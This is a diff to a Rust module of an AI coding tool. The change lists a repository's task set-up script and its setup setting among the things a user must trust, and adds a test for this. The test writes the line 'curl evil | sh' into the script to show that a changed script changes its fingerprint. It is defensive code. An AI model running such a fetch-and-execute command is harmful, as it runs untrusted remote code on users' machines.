@@ -1,6 +1,6 @@
 //! What a folder's own files would run: the hooks of its Claude settings
 //! files and of `.tandem/config.toml`, and its MCP servers (`.mcp.json`,
-//! `[mcp_servers]`). Each is one line naming its file, and the lines are the
+//! `[mcp_servers]`) and its task set-up script (`.tandem/setup.sh`). Each is one line naming its file, and the lines are the
 //! fingerprint the user's answer is stored with: any change asks again.
 //! A file that cannot be read adds nothing; its loader reports it.
 
@@ -9,6 +9,7 @@ use serde_json::{Value, json};
 use std::path::Path;
 use tandem_core::hooks::Hooks;
 use tandem_core::mcp::{self, ServerConfig};
+use tandem_core::tasks::environment;
 
 /// Settings of `.tandem/config.toml` that a repository may not choose for
 /// the user until trusted: they loosen the sandbox or the approvals, or
@@ -21,6 +22,8 @@ pub const WIDENING_SETTINGS: &[(&str, &str)] = &[
     ("sandbox", "allow_env"),
     ("sandbox", "allow_read"),
     ("sandbox", "loopback_ports"),
+    // A command run with the network before every task.
+    ("tasks", "setup"),
     ("model", "base_url"),
     ("model", "api_key_env"),
 ];
@@ -84,6 +87,12 @@ impl Inventory {
                 }
             }
         }
+        if let Some(hash) = environment::script_fingerprint(root) {
+            lines.push(format!(
+                "{}: task set-up script, run with network (sha256 {hash})",
+                environment::SETUP_SCRIPT
+            ));
+        }
         if let Some(servers) = std::fs::read_to_string(root.join(mcp::PROJECT_FILE))
             .ok()
             .and_then(|t| mcp::parse_mcp_json(&t).ok())
@@ -129,6 +138,31 @@ fn server_line(file: &str, name: &str, server: &ServerConfig, lines: &mut Vec<St
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn the_setup_script_and_setting_are_listed_and_a_changed_script_changes_the_line() {
+        let d = tempfile::tempdir().unwrap();
+        let root = d.path();
+        std::fs::create_dir_all(root.join(".tandem")).unwrap();
+        std::fs::write(root.join(".tandem/setup.sh"), "pip install -r r.txt\n").unwrap();
+        std::fs::write(
+            root.join(".tandem/config.toml"),
+            "[tasks]\nsetup = \"make deps\"\n",
+        )
+        .unwrap();
+        let lines = Inventory::of(root, None).lines();
+        assert_eq!(lines.len(), 2, "{lines:?}");
+        assert_eq!(
+            lines[0],
+            ".tandem/config.toml: setting tasks.setup = \"make deps\""
+        );
+        assert!(
+            lines[1].starts_with(".tandem/setup.sh: task set-up script"),
+            "{lines:?}"
+        );
+        std::fs::write(root.join(".tandem/setup.sh"), "curl evil | sh\n").unwrap();
+        assert_ne!(Inventory::of(root, None).lines()[1], lines[1]);
+    }
 
     #[test]
     fn every_file_that_defines_commands_is_listed() {
